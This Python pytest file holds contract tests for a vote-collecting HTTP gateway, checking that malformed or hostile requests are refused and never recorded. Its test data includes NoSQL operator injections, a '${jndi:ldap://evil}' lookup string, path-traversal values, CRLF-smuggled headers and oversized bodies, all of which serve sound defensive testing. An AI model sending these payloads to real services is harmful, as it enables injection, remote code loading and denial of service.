"""Rows B-36 to B-74 that a gateway decides: what is no vote is refused with its field, and never appended."""

import json
from typing import Any, NamedTuple

import pytest

from contract.ingest.conftest import Opened
from contract.ingest.doors import CATALOGUE, Door
from contract.ingest.wire import VOTE, get, post

GOOD: dict[str, Any] = json.loads(VOTE)
ID = "vote-0001"


class Case(NamedTuple):
    """A request, its status, and its code and field where they matter."""

    name: str
    raw: bytes
    status: int
    code: str = ""
    field: str = ""


def having(**fields: Any) -> bytes:
    """A vote with some fields changed."""
    return post(json.dumps(GOOD | fields).encode())


def lacking(field: str) -> bytes:
    """A vote without a field."""
    return post(json.dumps({name: value for name, value in GOOD.items() if name != field}).encode())


def written(year: str = "1997", rank: str = "9.5") -> bytes:
    """A vote whose numbers are written so."""
    return post(f'{{"name":"Bohemia Suburbana","album":"Mis palabras","year":{year},"rank":{rank}}}'.encode())


def typed(media: str, body: bytes = VOTE) -> bytes:
    """A vote sent as another type."""
    return post(body, Content_Type=media)


YEARS = ("9" * 5000, str(2**63), "-1", "1997.0", "true", '"1_997"', '" 1997 "', '"١٩٩٧"', '"1997a"', "null", "[]")
RANKS = ("1e1", '"9,5"', '"9.555"', '"1st"', '"1e1"', "-0.1", "10.01", "11", '" 5 "', "true", "{}", '""')
NAMES = (["a"], {"$ne": None}, {"$gt": ""}, 7, None, "", "   ", "a\0b", "a\r\nb", "a\u202eb", "a" * 81, "a" * 3000)
IDS = ("a" * 7, "a" * 129, "a b c d e", "niño-0001")
STRANGERS = ("__proto__", "status", "offset", "weight", "door", "at", "band")

CASES = (
    *(Case(f"B-36 {body!r}", post(body), 400, "body_not_object") for body in (b"", b"null", b"[]", b'"x"', b"1")),
    Case("B-37 no type", typed(""), 415),
    Case("B-37 text", typed("text/plain"), 415),
    Case("B-38 type in UTF-16", typed("application/json; charset=utf-16"), 415),
    Case("B-38 UTF-16", post(VOTE.decode().encode("utf-16")), 400),
    Case("B-39 byte order mark", post(b"\xef\xbb\xbf" + VOTE), 400),
    Case("B-40 invalid UTF-8", post(VOTE.replace(b"Mis", b"\xff")), 400),
    Case("B-40 overlong", post(VOTE.replace(b"Mis", b"\xc0\xaf")), 400),
    Case("B-40 lone surrogate", post(VOTE.replace(b"Mis", rb"\ud800")), 400),
    Case("B-41 NaN", written(rank="NaN"), 400),
    Case("B-41 Infinity", written(year="Infinity"), 400),
    Case("B-41 1e999", written(rank="1e999"), 422, "", "rank"),
    Case("B-41 -0", written(rank="-0"), 422, "", "rank"),
    *(Case(f"B-42 year {year[:9]}", written(year=year), 422, "invalid_field", "year") for year in YEARS[1:]),
    *(Case(f"B-42 rank {rank}", written(rank=rank), 422, "invalid_field", "rank") for rank in RANKS),
    Case("B-42 year of 4,000 digits", written(year="9" * 3900), 422, "invalid_field", "year"),
    Case("B-42 year of 5,000 digits", written(year=YEARS[0]), 413),
    Case("B-43 nested", post(b"[" * 4000), 400),
    Case("B-43 nested without end", post(b"[" * 100_000), 413),
    Case("B-44 duplicate key", post(VOTE[:-1] + b',"name":"B"}'), 400, "duplicate_key"),
    *(Case(f"B-45 {field}", having(**{field: "counted"}), 422, "unknown_field") for field in STRANGERS),
    *(Case(f"B-46 no {field}", lacking(field), 422, "missing_field", field) for field in GOOD),
    *(Case(f"B-48 name {str(name)[:9]!r}", having(name=name), 422, "invalid_field", "name") for name in NAMES),
    Case("B-49 album", having(album="a\u202eb"), 422, "invalid_field", "album"),
    Case("B-50 id with a line end", having(id="abcdefgh\n"), 422, "invalid_field", "id"),
    Case("B-52 voter empty", having(voter=""), 422, "invalid_field", "voter"),
    Case("B-52 voter of 129 bytes", having(voter="é" * 65), 422, "invalid_field", "voter"),
    Case("B-52 voter of 1 MB", having(voter="a" * 1_000_000), 413),
    *(Case(f"B-55 id {text[:9]!r}", having(id=text), 422, "invalid_field", "id") for text in IDS),
    Case("B-55 header of 7", post(Idempotency_Key="a" * 7), 422, "invalid_field", "id"),
    Case("B-55 empty header", post().replace(b"Host", b"Idempotency-Key:\r\nHost"), 422, "invalid_field", "id"),
    Case("B-55 two headers", post(Idempotency_Key=f"{ID}\r\nIdempotency-Key: {ID}"), 400),
    Case("B-55 header and field", post(VOTE[:-1] + b',"id":"vote-0002"}', Idempotency_Key=ID), 400, "id_mismatch"),
    *(Case(f"B-61 {coding}", post(Content_Encoding=coding), 415) for coding in ("gzip", "br", "gzip, gzip")),
    Case("B-60 timestamp", having(timestamp=1_700_000_000), 422, "unknown_field"),
    Case("B-64 form", typed("application/x-www-form-urlencoded", b"name=a"), 415),
    Case("B-64 multipart", typed("multipart/form-data; boundary=a", b"--a--"), 415),
    Case("B-73 Host is no host", post(Host="evil/../"), 400),
    Case("no length", post(Content_Length=""), 411),
    Case("another route", post(target="/votes"), 404),
)  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_what_is_no_vote_is_refused_and_not_appended(door: Door, case: Case) -> None:
    before = door.count()
    answer = door.ask(case.raw)
    told = answer.json
    code, field = told["code"] if case.code else "", told.get("field", "") if case.field else ""
    assert (answer.status, code, field, door.count() - before) == (case.status, case.code, case.field, 0)


ACCEPTED = (
    ("B-37 type in UTF-8", typed("Application/JSON; charset=UTF-8")),
    ("B-42 digits in texts", written('"1997"', '"9.50"')),
    ("B-49 zero width joiner", having(name="क्‍ष")),
    ("B-49 emoji", having(name="🤘")),
    ("B-49 Spanish", having(name="Maná ñandú")),
    ("B-52 path as voter", having(voter="../..")),
    ("B-52 NUL as voter", having(voter="\0")),
    ("B-52 lookup as voter", having(voter="${jndi:ldap://evil}")),
    ("B-54 no id", post()),
    ("B-55 id of 128", having(id="a" * 128)),
    ("B-66 method override", post(X_HTTP_Method_Override="DELETE")),
    ("B-70 another answer wanted", post(Accept="application/xml, */*;q=0")),
    ("B-74 junk cookie", post(Cookie="a" * 8000)),
    ("identity coding", post(Content_Encoding="identity")),
)


@pytest.mark.parametrize("raw", [raw for _, raw in ACCEPTED], ids=[name for name, _ in ACCEPTED])
def test_an_odd_vote_is_a_vote(door: Door, raw: bytes) -> None:
    before = door.count()
    assert (door.ask(raw).status, door.count() - before) == (202, 1)


def test_b47_a_candidate_outside_the_catalogue_is_refused(opened: Opened) -> None:
    door = opened(contest=CATALOGUE)
    answer = door.ask(having(album="Sombras en el jardin"))
    assert (answer.status, answer.json["code"], door.count()) == (422, "not_in_catalogue", 0)


def test_b51_blanks_are_collapsed(door: Door) -> None:
    door.ask(having(album=" Mis \u00a0  palabras "))
    assert '"album":"Mis palabras"' in door.newest()


def test_b53_a_voter_is_kept_as_a_digest_alone(door: Door) -> None:
    kept = set()
    for phone in ("+502 5555", "+5025555", "5025555"):
        door.ask(having(voter=phone))
        kept.add(json.loads(door.newest())["voter"])
    assert (len(kept), [len(voter) for voter in kept]) == (3, [32] * 3)


def test_b56_an_id_comes_back_with_its_receipt(door: Door) -> None:
    answers = [door.vote(Idempotency_Key=ID), door.ask(having(id=ID))]
    receipts = {answer.json["receipt"] for answer in answers}
    assert ([answer.json["id"] for answer in answers], len(receipts)) == ([ID, ID], 2)


def test_b69_nobody_elses_page_may_read_an_answer(door: Door) -> None:
    preflight = post(b"", Origin="null", Access_Control_Request_Method="POST").replace(b"POST", b"OPTIONS", 1)
    answers = [door.ask(preflight), door.vote(Origin="https://evil"), door.vote(Origin="null")]
    assert not [name for answer in answers for name in answer.headers if name.startswith("access-control")]


def test_b73_another_host_is_misdirected_when_ours_are_known(opened: Opened) -> None:
    door = opened(hosts="rockola.example, localhost")
    hosts = ("evil", "rockola.example", "LOCALHOST:3000")
    assert [door.vote(Host=host).status for host in hosts] == [421, 202, 202]


def test_b65_an_address_that_hurries_is_told_to_wait(opened: Opened) -> None:
    door = opened(address_rate=2)
    answers = [door.vote(X_Forwarded_For=f"1.2.3.{number}") for number in range(3)]
    assert ([a.status for a in answers], answers[-1].headers["retry-after"]) == ([202, 202, 429], "1")


def test_b65_a_trusted_proxy_tells_who_asks(opened: Opened) -> None:
    door = opened(address_rate=1, trusted_proxies="127.0.0.1, 10.0.0.0/8")
    chains = ("1.1.1.1", "9.9.9.9, 1.1.1.1", "1.1.1.2, 10.1.1.1", "6.6.6.6, 1.1.1.2", "1.1.1.3")
    assert [door.vote(X_Forwarded_For=chain).status for chain in chains] == [202, 429, 202, 429, 202]


def test_a_voter_who_hurries_is_told_to_wait(opened: Opened) -> None:
    door = opened(voter_rate=1)
    votes = [having(voter="ana"), having(voter="ana"), having(voter="eva"), post(), post()]
    assert [door.ask(raw).status for raw in votes] == [202, 429, 202, 202, 202]


def test_a_gateway_tells_that_it_lives_and_is_ready(door: Door) -> None:
    assert [door.ask(get(target)).status for target in ("/healthz", "/readyz", "/readyz?now")] == [200, 200, 200]
